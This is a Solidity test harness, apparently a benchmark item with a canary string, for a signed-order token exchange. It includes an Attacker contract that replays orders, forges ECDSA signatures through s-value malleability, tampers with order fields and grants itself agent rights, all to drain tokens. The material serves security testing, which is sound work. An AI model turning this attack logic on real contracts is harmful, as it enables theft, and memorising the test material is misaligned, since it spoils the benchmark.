// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;
pragma abicoder v2;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./QuotedExchange.sol";

// assay-canary-c420eaf7-6f0c-47b0-bae2-d6e458133333

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 100_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_620_000_000;
    uint256 private constant KEY = 0xA11CE;
    // a broker, who acts for both
    uint256 private constant AGENT = 0xA6E27;
    uint256 private constant OLD_AGENT = 0x01DA6E27;
    uint256 private constant OUTSIDER = 0xBAD;
    address private constant GOV = address(0x60F);
    address private constant BEN = address(0xBE9);

    Coin private coin;
    Coin private gem_;
    QuotedExchange private exchange;
    QuotedExchange private other;
    Attacker private mallory;
    address private ana;

    function order(address taker, uint256 offered, uint256 wanted, uint256 epoch, uint256 salt)
        private
        view
        returns (QuotedExchange.Order memory)
    {
        return QuotedExchange.Order(ana, taker, gem_, coin, offered, wanted, epoch, salt, START + 10 days);
    }

    function signed(QuotedExchange at, QuotedExchange.Order memory o, uint256 key) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, at.hashOrder(o));
        return abi.encodePacked(r, s, v);
    }

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        gem_ = new Coin();
        ana = vm.addr(KEY);
        vm.prank(GOV);
        exchange = new QuotedExchange(50, GOV);
        other = new QuotedExchange(50, GOV);
        gem_.transfer(ana, 10_000e18);
        coin.transfer(BEN, 2_000e18);
        vm.startPrank(BEN);
        coin.approve(address(exchange), uint256(-1));
        exchange.setAgent(vm.addr(AGENT), true);
        vm.stopPrank();
        mallory = new Attacker(exchange, coin, vm.addr(OUTSIDER));
        coin.transfer(address(mallory), 10e18);

        QuotedExchange.Order memory o = order(address(0), 1_000e18, 1_000e18, 1, 0);
        mallory.learn(o, signed(exchange, o, KEY));
        o = order(BEN, 500e18, 1e18, 1, 1);
        mallory.learn(o, signed(exchange, o, KEY));
        o = order(address(0), 500e18, 1e18, 0, 2);
        mallory.learn(o, signed(exchange, o, KEY));
        o = order(address(0), 500e18, 1e18, 1, 3);
        o.deadline = START - 1;
        mallory.learn(o, signed(exchange, o, KEY));
        o = order(address(0), 500e18, 1e18, 1, 4);
        mallory.learn(o, signed(exchange, o, KEY));
        vm.prank(ana);
        exchange.cancelOrder(o);
        o = order(address(0), 500e18, 1e18, 1, 5);
        mallory.learn(o, signed(exchange, o, OLD_AGENT));
        o = order(address(0), 500e18, 1e18, 1, 6);
        mallory.learn(o, signed(other, o, KEY));
        o = order(address(0), 500e18, 1e18, 1, 7);
        mallory.learn(o, signed(exchange, o, OUTSIDER));

        vm.startPrank(ana);
        gem_.approve(address(exchange), uint256(-1));
        exchange.advanceEpoch();
        exchange.setAgent(vm.addr(AGENT), true);
        exchange.setAgent(vm.addr(OLD_AGENT), true);
        exchange.setAgent(vm.addr(OLD_AGENT), false);
        vm.stopPrank();
    }

    function test_Regular() public {
        QuotedExchange.Order memory o = order(address(0), 300e18, 100e18, 1, 20);
        bytes memory signature = signed(exchange, o, KEY);
        vm.startPrank(BEN);
        (uint256 amount, uint256 payment) = exchange.fillOrder(o, 100e18, signature);
        require(amount == 100e18 && payment == 33333333333333333334, "a part");
        require(coin.balanceOf(ana) == payment && gem_.balanceOf(BEN) == amount, "paid");
        require(coin.balanceOf(GOV) == 166666666666666667, "the fee");
        (amount, payment) = exchange.fillOrder(o, 900e18, signature);
        require(amount == 200e18 && payment == 66666666666666666667, "the rest");
        vm.stopPrank();
        o = order(BEN, 500e18, 50e18, 1, 21);
        signature = signed(exchange, o, AGENT);
        vm.prank(BEN);
        exchange.fillOrder(o, 500e18, signature);
        require(gem_.balanceOf(BEN) == 800e18 && coin.balanceOf(ana) == 150e18 + 1, "by the agent");
        vm.startPrank(ana);
        exchange.cancelOrder(o);
        exchange.setAgent(vm.addr(AGENT), false);
        exchange.advanceEpoch();
        vm.stopPrank();
        require(exchange.epochOf(ana) == 2, "advanced");
        vm.startPrank(GOV);
        exchange.changeFee(0, BEN);
        exchange.transferOwnership(BEN);
        vm.stopPrank();
        require(exchange.feeRate() == 0 && exchange.feeRecipient() == BEN, "no fee");
        vm.prank(BEN);
        exchange.renounceOwnership();
        vm.prank(other.owner());
        other.renounceOwnership();
    }

    function test_RefusesFees() public {
        vm.expectRevert("The fee is above the maximum.");
        new QuotedExchange(101, GOV);
        vm.expectRevert("The fee needs a recipient.");
        new QuotedExchange(100, address(0));
        vm.expectRevert("Ownable: caller is not the owner");
        exchange.changeFee(1, BEN);
    }

    function test_RefusesOtherTakers() public {
        QuotedExchange.Order memory o = order(BEN, 500e18, 0, 1, 30);
        bytes memory signature = signed(exchange, o, KEY);
        vm.expectRevert("The order is reserved for another taker.");
        exchange.fillOrder(o, 1, signature);
        vm.prank(BEN);
        vm.expectRevert("Only the maker can cancel an order.");
        exchange.cancelOrder(o);
        o.taker = address(this);
        o.salt = 31;
        vm.expectRevert("The maker has not signed the order.");
        exchange.fillOrder(o, 1, signature);
    }

    function test_RefusesEndedOrders() public {
        QuotedExchange.Order memory o = order(address(0), 500e18, 0, 1, 40);
        bytes memory signature = signed(exchange, o, KEY);
        vm.expectRevert("Nothing of the order is left to be filled.");
        exchange.fillOrder(o, 0, signature);
        exchange.fillOrder(o, 500e18, signature);
        vm.expectRevert("Nothing of the order is left to be filled.");
        exchange.fillOrder(o, 1, signature);
        o = order(address(0), 500e18, 0, 1, 41);
        signature = signed(exchange, o, KEY);
        vm.prank(ana);
        exchange.cancelOrder(o);
        vm.expectRevert("Nothing of the order is left to be filled.");
        exchange.fillOrder(o, 1, signature);
        o = order(address(0), 500e18, 0, 1, 42);
        signature = signed(exchange, o, KEY);
        vm.warp(START + 10 days);
        exchange.fillOrder(o, 1, signature);
        vm.warp(START + 10 days + 1);
        vm.expectRevert("The deadline of the order has passed.");
        exchange.fillOrder(o, 1, signature);
    }

    function test_RefusesOtherEpochs() public {
        QuotedExchange.Order memory o = order(address(0), 500e18, 0, 2, 50);
        bytes memory signature = signed(exchange, o, KEY);
        vm.expectRevert("The order is of another epoch.");
        exchange.fillOrder(o, 1, signature);
        vm.prank(ana);
        exchange.advanceEpoch();
        exchange.fillOrder(o, 1, signature);
    }

    function test_RefusesFormerAgents() public {
        QuotedExchange.Order memory o = order(address(0), 500e18, 0, 1, 60);
        bytes memory signature = signed(exchange, o, OLD_AGENT);
        vm.expectRevert("The maker has not signed the order.");
        exchange.fillOrder(o, 1, signature);
    }

    function exploit() public {
        mallory.run();
        vm.warp(block.timestamp + 11 days);
        mallory.late();
    }

    function test_Exploit() public {
        exploit();
        require(gem_.balanceOf(address(mallory)) >= 100e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(exchange);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function gem() public view returns (address) {
        return address(gem_);
    }
}

contract Attacker {
    QuotedExchange private exchange;
    address private key;
    QuotedExchange.Order[] private orders;
    bytes[] private signatures;

    constructor(QuotedExchange e, Coin c, address k) {
        exchange = e;
        key = k;
        c.approve(address(e), uint256(-1));
    }

    function learn(QuotedExchange.Order memory o, bytes memory signature) external {
        orders.push(o);
        signatures.push(signature);
    }

    function attempt(QuotedExchange.Order memory o, uint256 amount, bytes memory signature) private {
        try exchange.fillOrder(o, amount, signature) {} catch {}
    }

    function run() external {
        exchange.setAgent(key, true);
        exchange.setAgent(address(this), true);
        exchange.advanceEpoch();
        for (uint256 i = 0; i < orders.length; i++) {
            QuotedExchange.Order memory o = orders[i];
            bytes memory signature = signatures[i];
            try exchange.cancelOrder(o) {} catch {}
            if (i != 0) attempt(o, o.offeredAmount, signature);
            attempt(o, 0, signature);
            attempt(o, o.offeredAmount, other(signature));
            attempt(o, o.offeredAmount, new bytes(65));
            attempt(o, o.offeredAmount, "");
            o.taker = address(this);
            attempt(o, o.offeredAmount, signature);
            o.taker = address(0);
            if (i != 0) attempt(o, o.offeredAmount, signature);
            o.wantedAmount = 0;
            attempt(o, o.offeredAmount, signature);
            o = orders[i];
            o.offeredAmount = o.offeredAmount * 1000;
            attempt(o, o.offeredAmount, signature);
            o = orders[i];
            o.epoch = 1;
            o.deadline = uint256(-1);
            attempt(o, o.offeredAmount, signature);
            o.salt = 99;
            attempt(o, o.offeredAmount, signature);
            o.maker = address(0);
            o.epoch = 0;
            attempt(o, o.offeredAmount, new bytes(65));
        }
        // what it can pay, and more than that
        for (uint256 i = 0; i < 4; i++) {
            attempt(orders[0], 3e18, signatures[0]);
            attempt(orders[0], 1, signatures[0]);
            attempt(orders[0], 300e18, signatures[0]);
        }
    }

    function late() external {
        for (uint256 i = 0; i < orders.length; i++) attempt(orders[i], orders[i].offeredAmount, signatures[i]);
    }

    // the same signature with the other root
    function other(bytes memory signature) private pure returns (bytes memory) {
        bytes32 r;
        uint256 s;
        uint8 v = uint8(signature[64]);
        assembly {
            r := mload(add(signature, 32))
            s := mload(add(signature, 64))
        }
        s = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141 - s;
        return abi.encodePacked(r, s, v == 27 ? uint8(28) : uint8(27));
    }
}
